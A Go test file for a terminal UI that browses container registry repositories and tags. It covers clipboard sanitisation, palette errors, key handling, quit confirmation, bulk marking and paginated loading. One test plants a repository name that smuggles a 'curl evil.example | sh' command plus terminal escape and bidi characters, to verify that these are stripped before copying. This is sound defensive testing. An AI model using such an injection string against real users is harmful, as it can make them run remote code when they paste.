package ui

import (
	"encoding/base64"
	"fmt"
	"net/http"
	"net/http/httptest"
	"regexp"
	"strings"
	"sync"
	"testing"
	"time"

	tea "charm.land/bubbletea/v2"

	"github.com/hubtui/hubtui/hubclient"
	"github.com/hubtui/hubtui/hubclient/hubsim"
	"github.com/hubtui/hubtui/state"
	"github.com/hubtui/hubtui/ui/pane"
	"github.com/hubtui/hubtui/ui/sanitize"
)

// TestCopySendsTheSanitisedName: y puts on the clipboard the same clean
// string the status line shows, never a server name's controls or newlines.
func TestCopySendsTheSanitisedName(t *testing.T) {
	d := demoDriver(t)
	rp := d.repos()
	evil := rp.L.Coll().Items[0]
	evil.Name = "web\n; curl evil.example | sh \x1b[31m\u202e"
	rp.L.Coll().Replace(0, evil)
	rp.L.ItemsChanged()
	rp.L.Table().SetCursor(0)
	d.key("y")
	osc := regexp.MustCompile(`\x1b\]52;c;([A-Za-z0-9+/=]+)\x07`)
	deadline := time.After(5 * time.Second)
	for {
		select {
		case m := <-d.msgs:
			got := osc.FindStringSubmatch(fmt.Sprintf("%v", m))
			if got == nil {
				d.deliver(m)
				continue
			}
			raw, err := base64.StdEncoding.DecodeString(got[1])
			if err != nil {
				t.Fatal(err)
			}
			want := "docker pull " + sanitize.String("acme/"+evil.Name)
			if string(raw) != want || strings.ContainsAny(string(raw), "\n\x1b\u202e") {
				t.Fatalf("clipboard got %q, want the sanitised %q", raw, want)
			}
			if !strings.Contains(d.app.status, want) {
				t.Fatalf("status %q does not show what was copied (%q)", d.app.status, want)
			}
			return
		case <-deadline:
			t.Fatal("no OSC 52 clipboard write after y")
		}
	}
}

// TestPaletteSaysWhatItCannotUse: arguments a command does not take, :ctx
// without contexts, and a bare repository name completing in the current org.
func TestPaletteSaysWhatItCannotUse(t *testing.T) {
	d := demoDriver(t)
	run := func(line string) {
		d.key(":")
		d.typeText(line)
		d.key("enter")
	}
	run("repos extra")
	if !strings.Contains(d.app.errText, "takes no argument") {
		t.Fatalf(":repos extra: error %q", d.app.errText)
	}
	run("ctx")
	if !strings.Contains(d.app.errText, "no contexts are configured") || strings.Contains(d.app.errText, "(known: )") {
		t.Fatalf(":ctx without contexts: error %q", d.app.errText)
	}
	name := d.repos().L.Coll().Items[0].Name
	d.key(":")
	d.typeText("tags " + name[:len(name)-1])
	d.key("tab")
	if got := d.app.palette.input.Value(); !strings.HasPrefix(got, "tags "+name[:len(name)-1]) || len(got) <= len("tags "+name[:len(name)-1]) {
		t.Fatalf("tab after a bare name completed nothing: %q (want tags %s…)", got, name)
	}
	d.key("esc")
}

// TestPersonalNamespaceIsNotCalledAnOrg: a user in no organization sees
// their own namespace as personal.
func TestPersonalNamespaceIsNotCalledAnOrg(t *testing.T) {
	_, url := startSim(t, hubsim.Options{})
	sess := demoSession(t, url, "olga", "olga")
	sess.Org = ""
	d := newDriver(t, Options{Session: sess}, 120, 40)
	d.until("the personal namespace", func() bool { return d.app.sess.Org == "olga" && d.reposLoaded() })
	header := strings.Split(d.screen(), "\n")[0]
	if !strings.Contains(header, "personal: olga") || strings.Contains(header, "org: olga") {
		t.Fatalf("header %q", header)
	}
}

// TestHelpNamesEveryItemOfAFailedBulkChange: the status line cuts, help does not.
func TestHelpNamesEveryItemOfAFailedBulkChange(t *testing.T) {
	d := demoDriver(t)
	d.app.setErr(pane.Partial{Total: 5, Errs: []error{
		fmt.Errorf("v1: %w", &hubclient.APIError{StatusCode: 409, Detail: "tag is immutable"}),
		fmt.Errorf("v2: %w", &hubclient.APIError{StatusCode: 409, Detail: "tag is immutable"}),
		fmt.Errorf("v3: %w", &hubclient.APIError{StatusCode: 409, Detail: "tag is immutable"}),
	}})
	d.key("?")
	lines := strings.Split(d.screen(), "\n")
	s := strings.Join(lines[:len(lines)-2], "\n") // the help page, without the status line and footer
	for _, n := range []string{"v1:", "v2:", "v3:"} {
		if !strings.Contains(s, n) {
			t.Fatalf("help does not name %s:\n%s", n, s)
		}
	}
	if strings.Contains(s, "more)") {
		t.Fatalf("help still says (and N more):\n%s", s)
	}
}

// TestEscGluedToTheNextKeyIsBoth: esc then : typed quickly over SSH arrive
// as one alt+:, which clears the filter and opens the palette.
func TestEscGluedToTheNextKeyIsBoth(t *testing.T) {
	d := demoDriver(t)
	d.key("/")
	d.typeText("zz")
	d.send(tea.KeyPressMsg{Code: ':', Mod: tea.ModAlt})
	if d.app.mode != modePalette {
		t.Fatalf("alt+: did not open the palette (mode %d)", d.app.mode)
	}
	if q := d.repos().Query(); q != "" {
		t.Fatalf("the esc half did not clear the filter: %q", q)
	}
	d.key("esc")
	// In an input, alt+b stays a word movement.
	d.key("/")
	d.send(tea.KeyPressMsg{Code: 'b', Mod: tea.ModAlt})
	if d.app.mode != modeFilter {
		t.Fatalf("alt+b left the filter (mode %d)", d.app.mode)
	}
}

// TestQuitWhileAChangeRunsAsks: a change in flight is tracked; q asks
// before leaving, and what was cut short is reported for the way out.
func TestQuitWhileAChangeRunsAsks(t *testing.T) {
	d := demoDriver(t)
	d.key("p", "y")
	if len(d.app.running) != 1 {
		t.Fatalf("running changes: %v", d.app.running)
	}
	d.until("the change to finish", func() bool { return len(d.app.running) == 0 })

	d.app.running[99] = "deleting 206 tag(s) of acme/big"
	d.key("q")
	if d.app.quitting || d.app.Dialog() == nil || !strings.Contains(d.screen(), "Quit while a change is running?") {
		t.Fatalf("q with a change running did not ask:\n%s", d.screen())
	}
	d.key("n")
	if d.app.quitting {
		t.Fatal("n quit")
	}
	d.key("q", "y")
	if !d.app.quitting {
		t.Fatal("y did not quit")
	}
	if u := d.app.Unfinished(); len(u) != 1 || !strings.Contains(u[0], "deleting 206 tag(s) of acme/big") {
		t.Fatalf("unfinished: %q", u)
	}
}

// TestMarkAllAsksOnAFuzzyFilterAndNamesTheRule: ctrl+a over a fuzzy filter
// asks with the count; over an exact one it marks at once, and the bulk
// delete confirmation shows the rule that chose the rows. Another
// repository's tags start with no filter or sort.
func TestMarkAllAsksOnAFuzzyFilterAndNamesTheRule(t *testing.T) {
	d := demoDriver(t)
	items := d.repos().L.Coll().Items
	first, second := items[0].Namespace+"/"+items[0].Name, items[1].Namespace+"/"+items[1].Name
	tp := d.openTags(first)
	if len(tp.L.Coll().Items) < 2 {
		t.Skipf("%s has %d tags", first, len(tp.L.Coll().Items))
	}
	tag := tp.L.Coll().Items[0].Name
	filter := func(q string) {
		d.key("/")
		for range 40 {
			d.key("backspace")
		}
		d.typeText(q)
		d.key("enter")
		d.until("the filter", func() bool { return !tp.L.Filtering() })
	}
	filter("'" + tag)
	d.key("ctrl+a")
	if d.app.mode != modeNormal || tp.L.Table().MarkedCount() != tp.L.Visible() || tp.L.Visible() == 0 {
		t.Fatalf("exact ctrl+a: mode %d, %d marked of %d", d.app.mode, tp.L.Table().MarkedCount(), tp.L.Visible())
	}
	d.key("D")
	if s := d.screen(); !strings.Contains(s, "Chosen by:") || !strings.Contains(s, "contains") {
		t.Fatalf("the bulk confirmation does not show the rule:\n%s", s)
	}
	d.key("esc", "esc", "esc") // the question, the filter, then the marks
	filter(tag[:1])
	d.key("ctrl+a")
	if d.app.Dialog() == nil || !strings.Contains(d.screen(), fmt.Sprintf("Mark all %d rows", tp.L.Visible())) || tp.L.Table().MarkedCount() != 0 {
		t.Fatalf("fuzzy ctrl+a did not ask first:\n%s", d.screen())
	}
	d.key("y")
	if tp.L.Table().MarkedCount() != tp.L.Visible() {
		t.Fatalf("y marked %d of %d", tp.L.Table().MarkedCount(), tp.L.Visible())
	}
	d.key("s")
	tp = d.openTags(second)
	if tp.Query() != "" || sortCol(tp.L) != -1 || tp.L.MarkRule() != "" {
		t.Fatalf("%s opened with filter %q, sort %d, rule %q", second, tp.Query(), sortCol(tp.L), tp.L.MarkRule())
	}
}

// TestLeftMidLoadAListGoesOnFromWhereItStopped: leaving the Tags pane while
// its last page is still loading and coming back asks only for what is
// missing, not for the pages already on screen.
func TestLeftMidLoadAListGoesOnFromWhereItStopped(t *testing.T) {
	sim, err := hubsim.New(hubsim.Options{Dataset: "demo", RateLimit: -1, Clock: hubsim.NewFakeClock(fixedNow())})
	if err != nil {
		t.Fatal(err)
	}
	var mu sync.Mutex
	asked := map[string]int{} // tag list page → requests
	stall := true
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if strings.HasSuffix(r.URL.Path, "/tags") {
			page := r.URL.Query().Get("page")
			mu.Lock()
			asked[page]++
			hold := stall && page == "3"
			mu.Unlock()
			if hold { // the last page hangs until the client gives up on it
				<-r.Context().Done()
				return
			}
		}
		sim.ServeHTTP(w, r)
	}))
	t.Cleanup(srv.Close)
	sess := demoSession(t, srv.URL, "demo", "demo", hubclient.WithPageSize(5))
	d := newDriver(t, Options{Session: sess}, 120, 40)
	d.until("repositories", d.reposLoaded)
	r := d.repos().L.Coll().Items[0]
	ref := r.Namespace + "/" + r.Name
	d.key(":")
	d.typeText("tags " + ref)
	d.key("enter")
	tp := d.tags()
	d.until("two pages", func() bool { return len(tp.L.Coll().Items) == 10 })
	d.key("1") // leave mid-load
	mu.Lock()
	stall = false
	before := map[string]int{"1": asked["1"], "2": asked["2"]}
	mu.Unlock()
	d.key("2")
	d.until("the rest", func() bool { return tp.L.Coll().Status == state.Loaded })
	if n := len(tp.L.Coll().Items); n != 12 {
		t.Fatalf("%d tags after resuming, want 12", n)
	}
	mu.Lock()
	defer mu.Unlock()
	if asked["1"] != before["1"] || asked["2"] != before["2"] {
		t.Fatalf("pages 1 and 2 were asked again: before %v, now %v", before, asked)
	}
}

// TestMarkedReposSayWhyChangesWaitAndTheErrorLeavesWithTheMarks: p, e and
// D with marks in Repos say why they do nothing; esc clears the marks and
// the error about them together.
func TestMarkedReposSayWhyChangesWaitAndTheErrorLeavesWithTheMarks(t *testing.T) {
	d := demoDriver(t)
	d.key("space", "space")
	for _, k := range []string{"p", "e", "D"} {
		d.key(k)
		if d.app.mode != modeNormal || !strings.Contains(d.app.errText, "esc clears the 2 marks") {
			t.Fatalf("%s with marks: mode %d, error %q", k, d.app.mode, d.app.errText)
		}
	}
	d.key("esc")
	if d.repos().L.Table().MarkedCount() != 0 || d.app.errText != "" {
		t.Fatalf("after esc: %d marks, error %q", d.repos().L.Table().MarkedCount(), d.app.errText)
	}
}
